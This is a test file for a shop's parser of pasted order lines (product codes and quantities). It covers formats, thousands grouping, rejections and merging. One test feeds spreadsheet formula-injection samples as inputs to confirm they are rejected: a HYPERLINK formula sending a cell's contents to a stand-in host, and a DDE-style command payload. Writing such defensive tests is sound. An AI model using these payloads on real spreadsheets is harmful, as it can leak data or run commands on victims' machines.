import { describe, expect, it } from 'vitest';
import { codeKey, MAX_LINES, mergeLines, readLine, readPastedLines } from './order-lines';

const line = (code: string, quantity: number) => ({ kind: 'line', code, quantity });

describe('readLine: the shapes buyers paste', () => {
  it.each([
    ['ACC-10342-GD-08 20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08, 20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08;20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08\t20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08\tGold hoop earrings 18K\t20\t12.50', 'ACC-10342-GD-08', 20],
    ['20 x ACC-10342-GD-08', 'ACC-10342-GD-08', 20],
    ['20x ACC-10342-GD-08', 'ACC-10342-GD-08', 20],
    ['20xACC-10342-GD-08', 'ACC-10342-GD-08', 20],
    ['20 × ACC-10342-GD-08', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08 x20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08 x 20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08×20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08: 20 pcs', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08 = 20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08 20件', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08 20 paires', 'ACC-10342-GD-08', 20],
    ['  - ACC-10342-GD-08   20  ', 'ACC-10342-GD-08', 20],
    ['3. ACC-10342-GD-08 20', 'ACC-10342-GD-08', 20],
    ['• 20 x ACC-10342-GD-08', 'ACC-10342-GD-08', 20],
    ['ＡＣＣ－１０３４２ ２０', 'ACC-10342', 20],
    ['ACC-10342-GD-08，20', 'ACC-10342-GD-08', 20],
    ['ACC-10342-GD-08 20.0', 'ACC-10342-GD-08', 20],
    ['acc-a10001-02 7', 'acc-a10001-02', 7],
    ['ACC-10342-GD-08', 'ACC-10342-GD-08', 1],
    ['6901234567892 24', '6901234567892', 24],
    ['24 x 6901234567892', '6901234567892', 24],
    ['12345 20', '12345', 20],
    ['20 x 12345', '12345', 20],
    ['Gold ring ACC-10342-GD-08 20', 'ACC-10342-GD-08', 20],
    // Thousands grouped as each language writes them: read whole, never as 1.
    ['ACC-10342-GD-08 1 000', 'ACC-10342-GD-08', 1000],
    ['ACC-10342-GD-08 1\u202f000 pcs', 'ACC-10342-GD-08', 1000],
    ['ACC-10342-GD-08\t1,000', 'ACC-10342-GD-08', 1000],
    ['ACC-10342-GD-08; 1.000', 'ACC-10342-GD-08', 1000],
    ["ACC-10342-GD-08 12'500", 'ACC-10342-GD-08', 12_500],
    ['2 500 x ACC-10342-GD-08', 'ACC-10342-GD-08', 2500],
    ['ACC-10342-GD-08 1 000件', 'ACC-10342-GD-08', 1000],
    // A mark inside a code, or a list's own separators, are not grouping.
    ['ACC-10.500 20', 'ACC-10.500', 20],
    ['ACC-10342-GD-08, 20, 100', 'ACC-10342-GD-08', 20],
  ])('%j → %s × %i', (text, code, quantity) => {
    expect(readLine(text)).toEqual(line(code, quantity));
  });

  it('passes over blank lines, notes and a pasted header row', () => {
    for (const text of ['', '   ', '# reorder for May', '// shop window', 'Code\tQty', 'SKU, Quantity', 'Référence;Quantité', '货号 数量', 'Código Cantidad']) {
      expect(readLine(text)).toEqual({ kind: 'skip' });
    }
  });

  it('says why a line is not an order line', () => {
    expect(readLine('20')).toEqual({ kind: 'rejected', reason: 'no_code' });
    expect(readLine('ACC-1 0')).toEqual({ kind: 'rejected', reason: 'zero_quantity' });
    expect(readLine('ACC-1 100000')).toEqual({ kind: 'rejected', reason: 'too_many' });
    expect(readLine('ACC-1 100 000')).toEqual({ kind: 'rejected', reason: 'too_many' });
    expect(readLine(`ACC-1 ${'9'.repeat(400)}`)).toEqual({ kind: 'rejected', reason: 'too_long' });
    expect(readLine('!!! ???')).toEqual({ kind: 'rejected', reason: 'no_code' });
    expect(readLine('Gold 20')).toEqual({ kind: 'rejected', reason: 'no_code' });
  });

  it('takes letters joined by a separator for a code when the line has no other, so the shop can say it has none', () => {
    expect(readLine('ACC-ABCD 5')).toEqual({ kind: 'line', code: 'ACC-ABCD', quantity: 5 });
    expect(readLine('ACC-XXXX')).toEqual({ kind: 'line', code: 'ACC-XXXX', quantity: 1 });
    expect(readLine('rose-gold ACC-12 3')).toEqual({ kind: 'line', code: 'ACC-12', quantity: 3 });
  });

  it('never takes a formula for a code', () => {
    for (const text of ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=1+2', '+ACC-1 20', '@SUM(A1:A9)', '-2+3+cmd|\' /C calc\'!A0']) {
      const read = readLine(text);
      if (read.kind === 'line') expect(read.code).toMatch(/^[\p{L}\p{N}]/u);
    }
    expect(readLine('=HYPERLINK("http://evil.example","x")')).toEqual({ kind: 'rejected', reason: 'no_code' });
  });
});

describe('readPastedLines', () => {
  it('reads every line and numbers them as the buyer sees them', () => {
    const read = readPastedLines('ACC-1 20\r\n\r\nnot a line!\nACC-2, 5\rACC-3');
    expect(read.lines).toEqual([
      { row: 1, code: 'ACC-1', quantity: 20 },
      { row: 4, code: 'ACC-2', quantity: 5 },
      { row: 5, code: 'ACC-3', quantity: 1 },
    ]);
    expect(read.rejected).toEqual([{ row: 3, text: 'not a line!', reason: 'no_code' }]);
    expect(read.skipped).toBe(1);
  });

  it('reads 10 000 lines quickly and leaves what is beyond the limit unread, counted', () => {
    const text = Array.from({ length: 10_000 }, (_, i) => `ACC-${String(i)}\t${String((i % 50) + 1)}`).join('\n');
    const started = performance.now();
    const read = readPastedLines(text);
    // Not a timing assertion on the machine's speed: a quadratic parser would take minutes here.
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(read.lines).toHaveLength(MAX_LINES);
    expect(read.overflow).toBe(10_000 - MAX_LINES);
    expect(read.lines.at(-1)).toEqual({ row: MAX_LINES, code: `ACC-${String(MAX_LINES - 1)}`, quantity: (MAX_LINES - 1) % 50 + 1 });
  });

  it('refuses a binary file pasted as text, reading nothing from it', () => {
    const bytes = Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256);
    const text = new TextDecoder('utf-8').decode(bytes);
    const read = readPastedLines(text);
    expect(read.lines).toEqual([]);
    expect(read.rejected).toEqual([{ row: 1, text: '', reason: 'not_text' }]);
  });

  it('keeps a long rejected line short enough to show', () => {
    const read = readPastedLines('word '.repeat(40));
    expect(read.rejected[0]?.text.length).toBeLessThanOrEqual(80);
  });
});

describe('mergeLines', () => {
  it('adds up duplicates whatever their case, in first-seen order', () => {
    const merged = mergeLines([
      { code: 'ACC-1', quantity: 2 },
      { code: 'acc-2', quantity: 3 },
      { code: 'acc-1', quantity: 5 },
    ]);
    expect(merged).toEqual([
      { code: 'ACC-1', quantity: 7, merged: 2 },
      { code: 'acc-2', quantity: 3, merged: 1 },
    ]);
    expect(codeKey(' ａｃｃ-1 ')).toBe('ACC-1');
  });
});
